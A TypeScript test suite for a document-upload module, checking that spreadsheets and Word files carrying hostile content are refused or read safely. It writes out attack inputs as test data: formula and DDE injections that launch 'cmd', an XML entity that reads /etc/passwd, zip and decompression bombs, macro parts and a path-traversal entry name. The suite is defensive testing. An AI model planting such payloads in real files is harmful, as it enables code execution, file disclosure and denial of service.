import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { openTestApp, type TestApp } from '../../../test/support/app.ts'
import { actorOf } from '../../../test/support/make.ts'
import { writeXlsx } from '../../platform/office/xlsx.ts'
import { organisation } from '../organisation/organisation.ts'
import { documents } from './documents.module.ts'

type Parts = Record<string, Uint8Array>
const HEAD = ['序号', '重点任务', '牵头单位', '完成时限']
const ROW = ['1', '抓好学习', '办公室', '6月底前']
const SHEET = 'xl/worksheets/sheet1.xml'

let app: TestApp
before(async () => {
  app = await openTestApp('hostile', { modules: [organisation, documents] })
})
after(() => app?.close())

const book = async (rows = [HEAD, ROW], sheets = 1) =>
  unzipSync(await writeXlsx(Array.from({ length: sheets }, (_, at) => ({ name: `表${at + 1}`, rows }))))
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const paper = (body: string): Parts => ({
  '[Content_Types].xml': strToU8('<Types/>'),
  'word/document.xml': strToU8(`<w:document ${word}><w:body>${body}</w:body></w:document>`),
})
const p = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`
/** A part with something put before a mark in it. */
const planted = (parts: Parts, name: string, before: string, what: string): Parts => ({
  ...parts,
  [name]: strToU8(strFromU8(parts[name]!).replace(before, `${what}${before}`)),
})
const link = (type: string, target: string) =>
  strToU8(
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  )

const tried = (bytes: Uint8Array, fileName: string) =>
  app.as(actorOf(app, 'office')).verb('document.explain', { fileName, content: Buffer.from(bytes).toString('base64') })

/** Refused with a code, in words that are whole and say what to do. */
async function refused(bytes: Uint8Array, fileName: string, code: string): Promise<void> {
  const started = performance.now()
  const answer = await tried(bytes, fileName)
  assert.deepEqual([answer.body.code, answer.status >= 400 && answer.status < 500], [code, true], fileName)
  assert.match(answer.body.title, /文件没有收下：.+。请/)
  assert.doesNotMatch(answer.body.title, /\{\w+\}/)
  assert.ok(performance.now() - started < 20_000)
}

describe('formulas', () => {
  test('are read as their last result, asked for in words where there is none, and never run', async () => {
    const parts = await book()
    const formula = (inside: string) =>
      zipSync({
        ...parts,
        [SHEET]: strToU8(
          strFromU8(parts[SHEET]!).replace(/<c r="B2"[^>]*>.*?<\/c>/s, `<c r="B2" t="str">${inside}</c>`),
        ),
      })
    const kept = await tried(formula('<f>WEBSERVICE("http://example.invalid/"&amp;A1)</f><v>抓好培训</v>'), 'a.xlsx')
    assert.equal(kept.body.tables[0].rows[0].title, '抓好培训')
    const none = await tried(formula("<f>cmd|'/C calc'!A0</f>"), 'b.xlsx')
    assert.equal(none.body.fits, false)
    const failed = await tried(formula('<f>DDE("cmd","x","y")</f><v>#REF!</v>'), 'c.xlsx')
    assert.deepEqual(
      failed.body.problems.map((one: { code: string }) => one.code),
      ['cell-error'],
    )
  })

  test('that are words stay words', async () => {
    const words = ['=1+1', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '＝1+1', '=HYPERLINK("http://example.invalid","点")']
    const rows = [HEAD, ...words.map((one, at) => [String(at + 1), `办${one}`, '办公室', one])]
    const shown = await tried(zipSync(await book(rows)), 'a.xlsx')
    assert.deepEqual(
      shown.body.tables[0].rows.map((row: { term: string }) => row.term.trim()),
      words.map((one) => one.trim()),
    )
  })
})

describe('content from elsewhere', () => {
  test('of a document and of a workbook keeps the file out', async () => {
    const away = 'http://example.invalid/x'
    for (const [name, type] of [
      ['word/_rels/settings.xml.rels', 'attachedTemplate'],
      ['word/_rels/document.xml.rels', 'image'],
      ['word/_rels/document.xml.rels', 'oleObject'],
      ['word/_rels/document.xml.rels', 'frame'],
    ] as const)
      await refused(zipSync({ ...paper(p('一')), [name]: link(type, away) }), 'a.docx', 'document/active-content')
    await refused(
      zipSync({ ...paper(p('一')), 'word/_rels/document.xml.rels': link('aFChunk', '\\\\host\\share\\x') }),
      'a.docx',
      'document/active-content',
    )
    const linked = {
      ...(await book()),
      'xl/externalLinks/_rels/externalLink1.xml.rels': link('externalLinkPath', 'file:///c:/x.xlsx'),
    }
    await refused(zipSync(linked), 'a.xlsx', 'document/active-content')
  })

  test('of definitions, in whatever part and encoding, keeps the file out', async () => {
    const laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
    const parts = await book()
    for (const name of [SHEET, 'xl/workbook.xml', '[Content_Types].xml', '_rels/.rels']) {
      const root = /<(?!\?)/.exec(strFromU8(parts[name]!))!.index
      const xml = strFromU8(parts[name]!)
      const bytes = zipSync({ ...parts, [name]: strToU8(`${xml.slice(0, root)}${laughs}${xml.slice(root)}`) })
      await refused(bytes, 'a.xlsx', 'document/active-content')
    }
    const hidden = {
      ...paper(p('一')),
      'word/styles.xml': new Uint8Array(Buffer.from(`\ufeff${laughs}<x/>`, 'utf16le')),
    }
    await refused(zipSync(hidden), 'a.docx', 'document/unreadable')
  })

  test('of macros keeps the file out, whatever its name ends with', async () => {
    const parts = await book()
    for (const more of [
      { 'xl/vbaProject.bin': strToU8('x') },
      { 'xl/macrosheets/sheet1.xml': strToU8('<x/>') },
      { 'xl/activeX/activeX1.bin': strToU8('x') },
      planted(
        parts,
        '[Content_Types].xml',
        '</Types>',
        '<Override PartName="/x" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
      ),
    ])
      await refused(zipSync({ ...parts, ...more }), 'a.xlsx', 'document/active-content')
  })
})

describe('files made to weigh', () => {
  test('that unpack to far more, or to thousands of parts, are refused', async () => {
    const parts = await book()
    await refused(
      zipSync({ ...parts, 'xl/sharedStrings.xml': new Uint8Array(60_000_000) }),
      'a.xlsx',
      'document/swollen',
    )
    const many = Object.fromEntries(Array.from({ length: 2500 }, (_, at) => [`word/x${at}.xml`, strToU8('<x/>')]))
    await refused(zipSync({ ...paper(p('一')), ...many }), 'a.docx', 'document/swollen')
  })

  test('that hold archives within archives are read without opening these', async () => {
    let inner = zipSync({ a: new Uint8Array(5_000_000) })
    for (let depth = 0; depth < 20; depth++) inner = zipSync({ 'x.zip': inner })
    const shown = await tried(zipSync({ ...(await book()), 'xl/embeddings/oleObject1.bin': inner }), 'a.xlsx')
    assert.equal(shown.body.fits, true)
  })

  test('that nest elements or tables deeply are refused', async () => {
    const deep = '<w:sdt>'.repeat(5000) + p('一') + '</w:sdt>'.repeat(5000)
    await refused(zipSync(paper(deep), { level: 0 }), 'a.docx', 'document/unreadable')
    const tables = '<w:tbl><w:tr><w:tc>'.repeat(400) + p('一') + '</w:tc></w:tr></w:tbl>'.repeat(400)
    await refused(zipSync(paper(tables), { level: 0 }), 'b.docx', 'document/unreadable')
    const sheet = planted(await book(), SHEET, '</sheetData>', '<row>'.repeat(20_000) + '</row>'.repeat(20_000))
    const answer = await tried(zipSync(sheet, { level: 0 }), 'c.xlsx')
    assert.ok(answer.status < 500, String(answer.status))
  })

  test('that put a cell into the farthest corner, or merge a million cells over and over, are refused or read in time', async () => {
    const parts = await book()
    const far = planted(parts, SHEET, '</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    await refused(zipSync(far), 'a.xlsx', 'document/too-long')
    const merges = `<mergeCells>${'<mergeCell ref="A1:GR50000"/>'.repeat(2000)}</mergeCells>`
    const over = planted(parts, SHEET, '</worksheet>', merges)
    const started = performance.now()
    const answer = await tried(zipSync(over), 'b.xlsx')
    assert.ok(answer.status < 500 && performance.now() - started < 20_000)
  })

  test('three hundred sheets are read, and no more items than one file may hold', async () => {
    const started = performance.now()
    const shown = await tried(zipSync(await book([HEAD, ROW], 300)), 'a.xlsx')
    assert.equal(shown.body.tables.length, 300)
    assert.ok(performance.now() - started < 20_000)
    const rows = [HEAD, ...Array.from({ length: 10 }, () => ROW)]
    const many = await tried(zipSync(await book(rows, 300)), 'b.xlsx')
    assert.equal(many.body.code, 'document/too-many-rows')
  })
})

test('a document behind a password is refused with what to do, whatever its name ends with', async () => {
  const compound = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(600),
    Buffer.from('EncryptedPackage', 'utf16le'),
  ])
  for (const name of ['a.xlsx', 'a.docx', 'a.xls']) await refused(compound, name, 'document/encrypted')
})

test('damaged and misnamed files are refused', async () => {
  const whole = zipSync(await book())
  await refused(whole.subarray(0, whole.length - 40), 'a.xlsx', 'document/unreadable')
  await refused(zipSync({ '../a.xml': strToU8('x'), ...paper(p('一')) }), 'a.docx', 'document/unreadable')
  await refused(zipSync({ 'a.txt': strToU8('x') }), 'a.docx', 'document/unsupported-format')
  await refused(strToU8('MZ\u0000\u0001\u0002'), 'a.xlsx', 'document/binary')
})
